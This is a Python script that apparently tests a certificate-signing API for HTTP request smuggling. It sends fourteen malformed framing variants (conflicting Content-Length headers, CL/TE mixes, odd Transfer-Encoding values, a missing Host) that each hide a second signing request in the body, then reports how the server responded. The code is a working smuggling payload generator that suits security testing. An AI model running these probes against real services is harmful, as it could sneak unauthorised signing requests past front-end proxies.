#!/usr/bin/env python3
"""smuggle.py -- one connection to the signing API: request 1 with hostile framing, a second,
complete signing request hidden where its body would be. Prints one line:
`status=NNN closed=yes|no answers=N` (status 0: no answer; answers: how many status lines came
back on the connection). Bounded: every read waits at most --wait seconds in all.

usage: smuggle.py HOST PORT CASE SECOND_REQUEST_BODY_FILE [--tls CA_FILE] [--wait SECONDS]
"""
import argparse
import re
import socket
import ssl
import sys
import time

PATH = "/v1/certificaterequests"


def hidden_request(body):
    return (b"POST " + PATH.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            b"Content-Type: application/json\r\nContent-Length: " + str(len(body)).encode() +
            b"\r\n\r\n" + body)


def chunked_end(rest):
    """A chunked body that ends at once, followed by rest."""
    return b"0\r\n\r\n" + rest


def build(case, second):
    """Request 1 of CASE: its head lines (after the request line) and what follows the head."""
    h2 = hidden_request(second)
    cases = {
        # Two Content-Lengths that differ, either order: whichever one is read, the other
        # puts the hidden request on the wire as a request of its own.
        "cl-cl": ([b"Content-Length: 0", b"Content-Length: %d" % len(h2)], h2),
        "cl-cl-rev": ([b"Content-Length: %d" % len(h2), b"Content-Length: 0"], h2),
        # Content-Length with Transfer-Encoding: chunked ends the body at once.
        "cl-te": ([b"Content-Length: %d" % len(chunked_end(h2)), b"Transfer-Encoding: chunked"],
                  chunked_end(h2)),
        "te-cl": ([b"Transfer-Encoding: chunked", b"Content-Length: %d" % len(chunked_end(h2))],
                  chunked_end(h2)),
        # White space before the colon (a proxy may ignore the header, a server may not).
        "te-space": ([b"Content-Length: %d" % len(chunked_end(h2)), b"Transfer-Encoding : chunked"],
                     chunked_end(h2)),
        "te-space-only": ([b"Transfer-Encoding : chunked"], chunked_end(h2)),
        # chunked that is not the final coding; an unknown coding.
        "te-chunked-identity": ([b"Transfer-Encoding: chunked, identity"], chunked_end(h2)),
        "te-xchunked": ([b"Transfer-Encoding: xchunked"], chunked_end(h2)),
        "te-gzip-chunked": ([b"Transfer-Encoding: gzip, chunked"], chunked_end(h2)),
        "te-two-lines": ([b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity"],
                         chunked_end(h2)),
        # chunked named other than as the value "chunked": libmicrohttpd would not decode it
        # (a body of unknown length, read until the close), while a proxy would.
        "te-chunked-blank": ([b"Transfer-Encoding: chunked "], chunked_end(h2)),
        "te-chunked-comma": ([b"Transfer-Encoding: chunked,"], chunked_end(h2)),
        "te-comma-chunked": ([b"Transfer-Encoding: ,chunked"], chunked_end(h2)),
        # HTTP/1.1 without Host, with a body of 0 bytes and the hidden request after it.
        "no-host": ([b"Content-Length: 0"], h2),
    }
    if case not in cases:
        sys.exit("unknown case %r; known: %s" % (case, ", ".join(sorted(cases))))
    lines, rest = cases[case]
    head = [b"POST " + PATH.encode() + b" HTTP/1.1"]
    if case != "no-host":
        head.append(b"Host: 127.0.0.1")
    head.append(b"Content-Type: application/json")
    head += lines
    return b"\r\n".join(head) + b"\r\n\r\n" + rest


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("case")
    ap.add_argument("second")
    ap.add_argument("--tls")
    ap.add_argument("--wait", type=float, default=3.0)
    a = ap.parse_args()
    with open(a.second, "rb") as f:
        second = f.read()
    data = build(a.case, second)
    sock = socket.create_connection((a.host, a.port), timeout=a.wait)
    if a.tls:
        ctx = ssl.create_default_context(cafile=a.tls)
        sock = ctx.wrap_socket(sock, server_hostname=a.host)
    sock.sendall(data)
    got = b""
    closed = False
    deadline = time.monotonic() + a.wait
    while len(got) < 1 << 20:
        left = deadline - time.monotonic()
        if left <= 0:
            break
        sock.settimeout(left)
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            break
        except (ConnectionResetError, ssl.SSLError):
            closed = True
            break
        if not chunk:
            closed = True
            break
        got += chunk
    sock.close()
    status = 0
    if got.startswith(b"HTTP/1."):
        status = int(got[9:12])
    answers = len(re.findall(rb"(?:^|\r\n)HTTP/1\.[01] [0-9]{3} ", got))
    print("status=%d closed=%s answers=%d" % (status, "yes" if closed else "no", answers))


if __name__ == "__main__":
    main()
